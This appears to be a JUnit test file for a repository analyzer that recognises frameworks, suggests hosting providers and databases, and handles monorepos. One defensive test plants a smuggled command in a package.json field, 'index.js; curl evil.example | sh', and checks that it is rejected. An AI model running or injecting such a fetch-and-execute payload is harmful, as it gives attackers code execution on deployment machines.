package dev.autodeploy.analyzer.engine;

import java.io.IOException;
import java.math.BigDecimal;
import java.nio.file.Files;
import java.nio.file.Path;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class RepositoryAnalyzerTests {

    @TempDir
    Path repo;

    private final RepositoryAnalyzer analyzer = new RepositoryAnalyzer();

    @Test
    void anEmptyRepositoryHasNoFrameworkAndSaysWhy() throws IOException {
        Files.writeString(repo.resolve("notes.txt"), "hello");
        Analysis analysis = analyzer.analyze(repo);
        assertThat(analysis.framework()).isNull();
        assertThat(analysis.apps()).isEmpty();
        assertThat(analysis.recommendations().provider()).isNull();
        assertThat(analysis.warnings()).anyMatch(w -> w.startsWith("No project recognised"));
    }

    @Test
    void aFileInsteadOfADirectoryIsAnError() throws IOException {
        Path file = Files.writeString(repo.resolve("file"), "x");
        assertThatThrownBy(() -> analyzer.analyze(file)).isInstanceOf(IOException.class);
    }

    @Test
    void theVersionFingerprintsEngineAndCatalogAndIsStable() {
        assertThat(analyzer.version()).matches("[^+]+\\+[0-9a-f]{8}").isEqualTo(new RepositoryAnalyzer().version());
    }

    @Test
    void aNextJsAppIsRecommendedForVercelWithItsDatabase() throws IOException {
        Files.writeString(repo.resolve("package.json"), """
                {"dependencies":{"next":"14.2.3","@prisma/client":"5.0.0"},"scripts":{"build":"next build"}}""");
        Analysis.Recommendations recommendations = analyzer.analyze(repo).recommendations();
        assertThat(recommendations.provider()).isEqualTo("vercel");
        assertThat(recommendations.database()).isEqualTo("postgresql");
        assertThat(recommendations.estimatedCost()).isEqualTo(new Analysis.EstimatedCost(BigDecimal.ZERO, "USD"));
        assertThat(recommendations.reasons()).anyMatch(r -> r.contains("@prisma/client"));
    }

    @Test
    void aServerIsRecommendedAManagedWebServiceAndAServerWithADockerfileKubernetes() throws IOException {
        Files.writeString(repo.resolve("package.json"), """
                {"main":"server.js","dependencies":{"express":"4.19.2","mongoose":"8.0.0"}}""");
        Analysis plain = analyzer.analyze(repo);
        assertThat(plain.recommendations().provider()).isEqualTo("render");
        assertThat(plain.recommendations().database()).isEqualTo("mongodb");
        assertThat(plain.recommendations().estimatedCost().monthly()).isEqualByComparingTo("7");
        assertThat(plain.buildConfiguration().startCommand()).isEqualTo("node server.js");
    }

    @Test
    void workspaceGlobsMatchDirectoriesLikePackageManagersDo() {
        assertThat(RepositoryAnalyzer.globPattern("apps/*").matcher("apps/web").matches()).isTrue();
        assertThat(RepositoryAnalyzer.globPattern("apps/*").matcher("apps/web/src").matches()).isFalse();
        assertThat(RepositoryAnalyzer.globPattern("./packages/**").matcher("packages/a/b").matches()).isTrue();
        assertThat(RepositoryAnalyzer.globPattern("tools/cli/").matcher("tools/cli").matches()).isTrue();
        assertThat(RepositoryAnalyzer.globPattern("a.b/*").matcher("aXb/c").matches()).isFalse();
    }

    @Test
    void aManifestFieldWithShellMetacharactersNeverReachesACommand() throws IOException {
        Files.writeString(repo.resolve("package.json"), """
                {"main":"index.js; curl evil.example | sh","dependencies":{"express":"4.19.2"}}""");
        Analysis analysis = analyzer.analyze(repo);
        assertThat(analysis.buildConfiguration().startCommand()).isNull();
        assertThat(analysis.toString()).doesNotContain("curl evil");
    }

    @Test
    void inAMonorepoEachAppKeepsItsOwnVariablesAndTheRootNone() throws IOException {
        Files.writeString(repo.resolve("package.json"), """
                {"name":"root","private":true,"workspaces":["apps/*"]}""");
        Files.createDirectories(repo.resolve("apps/web"));
        Files.createDirectories(repo.resolve("apps/api"));
        Files.writeString(repo.resolve("apps/web/package.json"), """
                {"name":"web","dependencies":{"next":"14.2.3"},"scripts":{"build":"next build","start":"next start"}}""");
        Files.writeString(repo.resolve("apps/web/page.js"), "const url = process.env.NEXT_PUBLIC_API_URL;");
        Files.writeString(repo.resolve("apps/api/package.json"), """
                {"name":"api","main":"server.js","dependencies":{"express":"4.19.2"}}""");
        Files.writeString(repo.resolve("apps/api/server.js"), "const db = process.env.DATABASE_URL;");
        Analysis analysis = analyzer.analyze(repo);
        assertThat(analysis.monorepo()).isTrue();
        assertThat(analysis.rootDirectory()).isEqualTo("apps/web");
        assertThat(analysis.environmentVariables()).extracting(Analysis.EnvironmentVariable::key)
                .containsExactly("NEXT_PUBLIC_API_URL");
        assertThat(analysis.apps()).filteredOn(app -> app.directory().equals("apps/api")).singleElement()
                .satisfies(api -> assertThat(api.environmentVariables()).extracting(Analysis.EnvironmentVariable::key)
                        .containsExactly("DATABASE_URL"));
        assertThat(analysis.apps()).filteredOn(app -> app.directory().isEmpty()).singleElement()
                .satisfies(root -> assertThat(root.environmentVariables()).isEmpty());
    }

    @Test
    void aConnectionStringInTheExampleEnvFileNamesTheDatabaseWhenNoDependencyDoes() throws IOException {
        Files.writeString(repo.resolve("package.json"), """
                {"dependencies":{"next":"15.0.3"},"scripts":{"build":"next build","start":"next start"}}""");
        Files.writeString(repo.resolve(".env.example"), "DATABASE_URL=mysql://user:pass@localhost/shop\n");
        Analysis.Recommendations recommendations = analyzer.analyze(repo).recommendations();
        assertThat(recommendations.database()).isEqualTo("mysql");
        assertThat(recommendations.reasons()).contains("DATABASE_URL is a MySQL connection string, so it expects a mysql database");
    }

    @Test
    void aMavenAggregatorAndAPlainLibraryModuleAreLibrariesAndTheBootModuleIsTheApp() throws IOException {
        String parent = """
                <parent><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-parent</artifactId>
                <version>3.3.0</version></parent>""";
        Files.writeString(repo.resolve("pom.xml"), "<project>" + parent + """
                <groupId>x</groupId><artifactId>root</artifactId><version>1</version><packaging>pom</packaging>
                <modules><module>lib</module><module>web</module></modules></project>""");
        Files.createDirectories(repo.resolve("lib"));
        Files.writeString(repo.resolve("lib/pom.xml"), """
                <project><groupId>x</groupId><artifactId>lib</artifactId><version>1</version></project>""");
        Files.createDirectories(repo.resolve("web"));
        Files.writeString(repo.resolve("web/pom.xml"), "<project>" + parent + """
                <groupId>x</groupId><artifactId>web</artifactId><version>1</version>
                <dependencies><dependency><groupId>org.springframework.boot</groupId>
                <artifactId>spring-boot-starter-web</artifactId></dependency></dependencies>
                <build><plugins><plugin><groupId>org.springframework.boot</groupId>
                <artifactId>spring-boot-maven-plugin</artifactId></plugin></plugins></build></project>""");
        Analysis analysis = analyzer.analyze(repo);
        assertThat(analysis.rootDirectory()).isEqualTo("web");
        assertThat(analysis.framework().id()).isEqualTo("spring-boot-maven");
        assertThat(analysis.apps()).extracting(Analysis.App::directory, Analysis.App::role)
                .containsExactlyInAnyOrder(org.assertj.core.groups.Tuple.tuple("web", "app"),
                        org.assertj.core.groups.Tuple.tuple("", "library"),
                        org.assertj.core.groups.Tuple.tuple("lib", "library"));
    }
}
